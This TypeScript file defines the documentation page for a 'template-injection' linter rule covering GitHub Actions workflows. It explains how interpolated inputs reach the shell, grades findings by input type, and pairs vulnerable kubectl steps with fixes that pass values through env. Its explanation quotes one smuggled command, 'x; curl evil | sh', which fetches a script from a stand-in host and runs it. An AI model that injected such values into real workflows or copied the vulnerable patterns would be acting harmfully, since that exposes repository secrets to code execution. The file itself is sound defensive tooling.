import type { RulePage } from "../rule-page.ts";

export const templateInjection: RulePage = {
  id: "template-injection",
  why: `\`\${{ … }}\` is pasted into the script before the shell reads it. Who may run a skill chooses its inputs, without any right to the repository: \`x; curl evil | sh\` as a namespace would run with the secrets of the skill. An environment variable is only ever text.

Findings are graded by what the input can hold: a string is an error; a number or boolean a warning, because GitHub does not check them for dispatches by API; a choice a remark, because its options are in the reviewed file. \`github.event.inputs.*\`, branch names, \`\${{ env.X }}\` where X holds an input, step outputs made from inputs, and anything wrapped in \`format\`, \`fromJSON\`, \`join\` or \`||\` count as what is in them. No version of actionlint sees any of this.`,
  allow: `An error cannot be allowed: there is always a way through \`env\`. Warnings and remarks do not block.`,
  samples: [
    {
      title: "An input in a script",
      at: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
`,
      wrong: `          kubectl --namespace \${{ inputs.namespace }} rollout restart deployment
`,
      fixed: true,
    },
    {
      title: "The same by the event",
      at: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
`,
      wrong: `          kubectl --namespace "\${{ github.event.inputs.namespace }}" rollout restart deployment
`,
      fixed: true,
    },
    {
      title: "By way of env",
      at: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
`,
      wrong: `          kubectl --namespace '\${{ env.NAMESPACE }}' rollout restart deployment
`,
      fixed: true,
    },
    {
      title: "Wrapped in functions",
      at: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
`,
      wrong: `          kubectl \${{ format('--namespace={0}', fromJSON(toJSON(inputs.namespace))) }} rollout restart deployment
`,
      right: `          kubectl --namespace="$NAMESPACE" rollout restart deployment
`,
      fixed: true,
    },
    {
      title: "A number",
      at: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
`,
      wrong: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
          kubectl --namespace "$NAMESPACE" scale deployment --replicas \${{ inputs.replicas }}
`,
      right: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
          kubectl --namespace "$NAMESPACE" scale deployment --replicas "$REPLICAS"
`,
      severity: "warning",
      fixed: true,
    },
    {
      title: "A choice",
      at: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
`,
      wrong: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
          echo size \${{ inputs.size }}
`,
      right: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
          echo size "$SIZE"
`,
      severity: "info",
      fixed: true,
    },
    {
      title: "In github-script",
      at: `      - id: step1
        name: "Restart"
`,
      wrong: `      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
        with:
          script: |
            core.info("\${{ inputs.namespace }}")
      - id: step1
        name: "Restart"
`,
      right: `      - uses: actions/github-script@60a0d83039c74a4aee543508d2ffcb1c3799cdea
        with:
          script: |
            core.info(process.env.NAMESPACE)
      - id: step1
        name: "Restart"
`,
      fixed: true,
    },
    {
      title: "An image that the caller names",
      at: `    name: Execute
`,
      wrong: `    name: Execute
    container: \${{ inputs.namespace }}
`,
      right: `    name: Execute
    container: alpine:3.22
`,
    },
    {
      title: "Handed to code that is not shown",
      at: `      - id: step1
        name: "Restart"
`,
      wrong: `      - uses: ./.github/actions/restart
        with:
          namespace: \${{ inputs.namespace }}
      - id: step1
        name: "Restart"
`,
      right: `      - uses: ./.github/actions/restart
      - id: step1
        name: "Restart"
`,
      severity: "warning",
    },
  ],
};
